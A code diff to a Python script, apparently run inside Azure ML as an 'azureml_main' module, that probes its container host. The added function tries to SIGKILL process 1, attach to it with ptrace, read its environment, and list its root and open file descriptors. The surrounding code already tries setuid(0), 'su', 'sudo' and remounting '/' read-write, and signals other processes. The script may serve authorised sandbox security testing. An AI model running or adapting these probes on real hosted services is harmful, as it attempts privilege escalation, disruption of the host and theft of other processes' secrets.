@@ -1,5 +1,6 @@
 """Looks around: what can be told of the host, of other runs and of the server. dataframe1: a column per masked path."""
 
+import ctypes
 import errno
 import json
 import os
@@ -68,17 +69,33 @@ def identity():
             "cwd": os.getcwd()}  # fmt: skip
 
 
+def first_process():
+    """What can be done to process 1, when that is another than this."""
+    if os.getpid() == 1:
+        return None
+    libc = ctypes.CDLL(None, use_errno=True)
+    traced = libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH
+    return {
+        "signal": attempt(os.kill, 1, signal.SIGKILL),
+        "trace": "done" if traced == 0 else errno.errorcode[ctypes.get_errno()],
+        "environ": attempt(Path("/proc/1/environ").read_bytes),
+        "root": attempt(os.listdir, "/proc/1/root"),
+        "fd": attempt(os.listdir, "/proc/1/fd"),
+    }
+
+
 def azureml_main(dataframe1, dataframe2):
     found = {
         "environment": sorted(os.environ),
-        "environment of process 1": sorted(
-            entry.partition("=")[0] for entry in Path("/proc/1/environ").read_text().split("\0") if entry
+        "environment at the process' start": sorted(
+            entry.partition("=")[0] for entry in Path("/proc/self/environ").read_text().split("\0") if entry
         ),
+        "process 1": first_process(),
         "masked": {path: content(path) for path in dataframe1.columns},
         "texts": texts(),
         "host name": [socket.gethostname(), platform.node(), subprocess.getoutput("hostname")],
         "processes": sorted(int(name) for name in os.listdir("/proc") if name.isdigit()),
-        "signal to all": attempt(os.kill, 2, signal.SIGTERM),
+        "signal to another": attempt(os.kill, 40, signal.SIGTERM),
         "identity": identity(),
         "become root": [attempt(os.setuid, 0), attempt(os.setgid, 0), attempt(os.setgroups, [0])],
         "become root by program": subprocess.getoutput("su -c id; sudo id; mount / -o remount,rw; id -u"),
